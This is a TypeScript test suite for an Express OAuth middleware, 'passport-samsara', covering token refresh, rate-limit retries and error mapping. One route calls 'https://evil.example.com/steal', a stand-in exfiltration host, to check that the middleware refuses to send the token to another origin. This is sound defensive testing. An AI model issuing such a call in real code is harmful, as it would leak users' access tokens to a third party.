import { expect } from 'chai';
import session from 'express-session';
import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import request from 'supertest';
import {
  MemoryTokenStore,
  OAuthClient,
  TokenManager,
  samsara,
  samsaraErrorHandler,
  type TokenStore,
} from 'passport-samsara';
import { StoreUnavailableError } from 'passport-samsara/errors';
import { startSamsaraEmulator, type SamsaraEmulator } from 'passport-samsara/testing';
import { fakeClock, fakeTimersPromises, type FakeClock } from './support/clock.js';
import { EXPRESSES } from './support/expresses.js';
import { clientOf, seedGrant } from './support/grants.js';

for (const { name, express } of EXPRESSES)
  describe(`${name}: req.samsara and the error handler`, () => {
    let emulator: SamsaraEmulator;
    let clock: FakeClock;
    let store: MemoryTokenStore;
    let tokens: TokenManager;
    let server: Server;
    let url: string;
    let fakePauses: { restore(): void } | undefined;

    /** An app whose "session" is a header naming the organization, and an API of its own. */
    async function startApp(tokenStore: TokenStore, maxRateLimitWait = 5_000): Promise<void> {
      tokens = new TokenManager({
        store: tokenStore,
        client: new OAuthClient({ ...clientOf(emulator), timeout: 1_000 }),
        // Samsara's own 429s, to the millisecond on a fake clock; the fleet's pacing: rate-limit.*.test.ts.
        rateLimit: false,
      });
      const app = express();
      app.use(session({ secret: 'test', resave: false, saveUninitialized: true }));
      app.use(samsara({ tokens, key: (req) => req.get('x-org') ?? undefined, maxRateLimitWait }));
      app.get('/vehicles', async (req, res, next) => {
        try {
          const response = await req.samsara.fetch('/fleet/vehicles?limit=3');
          res.status(response.status).json(await response.json());
        } catch (err) {
          next(err);
        }
      });
      app.get('/token', async (req, res, next) => {
        try {
          res.json({ length: (await req.samsara.accessToken()).length });
        } catch (err) {
          next(err);
        }
      });
      app.get('/elsewhere', async (req, res) => {
        try {
          await req.samsara.fetch('https://evil.example.com/steal');
          res.sendStatus(200);
        } catch (err) {
          res.status(400).json({ message: (err as Error).message });
        }
      });
      app.use(samsaraErrorHandler({ signInPath: '/auth/samsara' }));
      server = await new Promise((resolve) => {
        const s = app.listen(0, '127.0.0.1', () => resolve(s));
      });
      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    }

    beforeEach(async () => {
      // The emulator's rate limit reads this clock, and the 429 tests make req.samsara.fetch's
      // waits (node:timers/promises) run on it: a Retry-After is then waited to the millisecond.
      clock = fakeClock();
      emulator = await startSamsaraEmulator({ clock: clock.now });
      store = new MemoryTokenStore();
    });
    afterEach(async () => {
      fakePauses?.restore();
      fakePauses = undefined;
      server?.closeAllConnections();
      await new Promise((r) => server?.close(r));
      await emulator.stop();
    });

    it('calls the API with the Bearer token', async () => {
      await startApp(store);
      await seedGrant(emulator, store, '1001', 3600_000);
      const res = await request(url).get('/vehicles').set('x-org', '1001').expect(200);
      expect(res.body.data).to.have.length(3);
      expect(res.body.pagination.hasNextPage).to.equal(true);
      expect(emulator.counters.apiCalls).to.equal(1);
    });

    it('on a 401 refreshes once and retries once', async () => {
      await startApp(store);
      const old = await seedGrant(emulator, store, '1001', 3600_000);
      emulator.expireAccessTokens('1001');
      const res = await request(url).get('/vehicles').set('x-org', '1001').expect(200);
      expect(res.body.data).to.have.length(3);
      expect(emulator.counters.grants.refresh_token).to.equal(1);
      expect(emulator.counters.apiCalls).to.equal(2);
      expect((await store.get('1001'))!.accessToken).to.not.equal(old.accessToken);
    });

    it('on a 429 waits the fractional Retry-After and retries', async () => {
      await startApp(store);
      await seedGrant(emulator, store, '1001', 3600_000);
      emulator.configure({ rateLimit: 2 });
      fakePauses = fakeTimersPromises(clock);
      await request(url).get('/vehicles').set('x-org', '1001').expect(200);
      await request(url).get('/vehicles').set('x-org', '1001').expect(200);
      await clock.tick(400);
      // The window frees its oldest slot in 0.6 s: the emulator says Retry-After: 0.60000.
      const third = request(url)
        .get('/vehicles')
        .set('x-org', '1001')
        .then((res) => res);
      await clock.waiting();
      expect(emulator.counters.rateLimited).to.equal(1);
      await clock.tick(599);
      expect(clock.pending(), 'still waiting at 599 ms').to.equal(1);
      expect(emulator.counters.apiCalls).to.equal(3);
      await clock.tick(1);
      expect(clock.pending(), 'done waiting at 600 ms').to.equal(0);
      expect((await third).status).to.equal(200);
      expect(emulator.counters.apiCalls).to.equal(4);
      expect(emulator.counters.rateLimited).to.equal(1);
    });

    it('gives up on 429s past the bound with RateLimitedError -> 429 and Retry-After', async () => {
      await startApp(store, 50);
      await seedGrant(emulator, store, '1001', 3600_000);
      emulator.configure({ rateLimit: 1 });
      const results = await Promise.all(
        [1, 2].map(() => request(url).get('/vehicles').set('x-org', '1001').set('accept', 'application/json')),
      );
      const limited = results.find((r) => r.status === 429);
      expect(limited, 'one request was limited').to.not.equal(undefined);
      expect(limited!.body.error.code).to.equal('SAMSARA_RATE_LIMITED');
      expect(Number(limited!.headers['retry-after'])).to.be.at.least(1);
    });

    it('keeps a floor under Retry-After: 0, so a 429 storm cannot become a busy loop', async () => {
      await startApp(store, 200);
      await seedGrant(emulator, store, '1001', 3600_000);
      emulator.injectFault(
        'api',
        {
          type: 'status',
          status: 429,
          body: '{"message":"slow down"}',
          contentType: 'application/json',
          headers: { 'retry-after': '0' },
        },
        1_000,
      );
      fakePauses = fakeTimersPromises(clock);
      const limited = request(url)
        .get('/vehicles')
        .set('x-org', '1001')
        .set('accept', 'application/json')
        .then((res) => res);
      // 50 ms at least after each 429, until the next would pass maxRateLimitWait (200 ms).
      for (let call = 1; call <= 4; call++) {
        await clock.waiting();
        expect(emulator.counters.apiCalls).to.equal(call);
        await clock.tick(49);
        expect(clock.pending(), `still waiting 49 ms after 429 number ${call}`).to.equal(1);
        await clock.tick(1);
      }
      const res = await limited;
      expect(res.status).to.equal(429);
      expect(res.body.error.code).to.equal('SAMSARA_RATE_LIMITED');
      expect(emulator.counters.apiCalls).to.equal(5);
    });

    it('maps an API that cannot be reached to SAMSARA_UNREACHABLE (502) with a fixed message', async () => {
      await startApp(store);
      await seedGrant(emulator, store, '1001', 3600_000);
      emulator.injectFault('api', { type: 'drop' });
      const res = await request(url)
        .get('/vehicles')
        .set('x-org', '1001')
        .set('accept', 'application/json')
        .expect(502);
      expect(res.body.error).to.deep.equal({
        code: 'SAMSARA_UNREACHABLE',
        message: 'Samsara answered unexpectedly; try again later.',
      });
    });

    it('refuses to send the token to another origin', async () => {
      await startApp(store);
      await seedGrant(emulator, store, '1001', 3600_000);
      const res = await request(url).get('/elsewhere').set('x-org', '1001').expect(400);
      expect(res.body.message).to.match(/only calls Samsara's API/);
    });

    it('maps ReauthorizationRequiredError to a sign-in redirect for browsers and 401 JSON for API clients', async () => {
      await startApp(store);
      const browser = await request(url).get('/token').set('x-org', '1001').set('accept', 'text/html').expect(303);
      expect(browser.headers.location).to.equal('/auth/samsara');
      const api = await request(url).get('/token').set('x-org', '1001').set('accept', 'application/json').expect(401);
      expect(api.body.error.code).to.equal('SAMSARA_REAUTHORIZE');
      expect(api.headers['www-authenticate']).to.match(/Bearer/);
      const anonymous = await request(url).get('/token').set('accept', 'application/json').expect(401);
      expect(anonymous.body.error.code).to.equal('SAMSARA_REAUTHORIZE');
    });

    it('maps StoreUnavailableError to 503 with Retry-After', async () => {
      const broken: TokenStore = Object.assign(Object.create(store) as TokenStore, {
        get: async () => {
          throw new StoreUnavailableError('Redis did not answer within 500 ms.', { retryAfter: 2 });
        },
      });
      await startApp(broken);
      const res = await request(url).get('/token').set('x-org', '1001').set('accept', 'application/json').expect(503);
      expect(res.headers['retry-after']).to.equal('2');
      expect(res.body.error.code).to.equal('SAMSARA_STORE_UNAVAILABLE');
    });
  });
